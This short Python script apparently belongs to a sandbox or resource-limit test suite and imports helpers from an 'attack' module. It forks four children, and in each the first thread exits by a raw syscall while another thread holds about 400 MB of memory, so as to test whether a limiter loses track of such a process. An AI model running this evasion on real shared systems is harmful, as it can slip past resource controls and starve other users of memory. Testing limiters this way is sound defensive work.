import ctypes
import os
import threading
import time

from attack import *

EXIT = 60  # of one thread


def fill():
    time.sleep(0.3)  # until the first has left
    held = [b"x" * (100 << 20) for _ in range(4)]
    time.sleep(0.5)
    print("REACHED:", sum(map(len, held)) >> 20, "MB in a process whose first thread has left", flush=True)
    time.sleep(9)


for _ in range(4):
    if not os.fork():
        threading.Thread(target=fill).start()
        ctypes.CDLL(None).syscall(EXIT, 0)
time.sleep(4)
